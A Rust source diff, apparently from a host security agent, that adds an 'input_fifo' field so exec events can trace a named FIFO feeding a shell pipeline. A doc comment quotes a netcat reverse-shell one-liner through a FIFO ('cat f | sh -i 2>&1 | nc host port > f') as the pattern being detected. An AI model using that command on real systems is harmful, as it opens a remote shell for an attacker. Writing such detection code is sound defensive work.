@@ -248,6 +248,12 @@ pub struct ExecInfo {
     /// Pipes inherited on file descriptors above 2 (process substitution's `/dev/fd/63`).
     #[serde(skip_serializing_if = "Vec::is_empty")]
     pub fd_pipes: Vec<FdPipe>,
+    /// For a filter writing into a pipe with no pipe on its standard input (`cat f | sh`): the
+    /// named FIFO an operand names, by its inode number (the key pipes have), as the pipeline
+    /// found it with `stat` at exec. What the filter passes on is what that FIFO's writer
+    /// wrote (`cat f | sh -i 2>&1 | nc host port > f`).
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub input_fifo: Option<u64>,
     /// `LD_PRELOAD` from the environment.
     #[serde(skip_serializing_if = "Option::is_none")]
     pub ld_preload: Option<String>,
@@ -848,6 +854,7 @@ pub fn exec_info(ev: &node_agent_common::ExecEvent, clock: &Clock) -> ExecInfo {
                 pipe: p.ino,
             })
             .collect(),
+        input_fifo: None,
         ld_preload: (ev.flags & exec_flags::ENV_LD_AUDIT == 0)
             .then(|| env_value(&ev.ld_preload, ev.ld_preload_len))
             .flatten(),
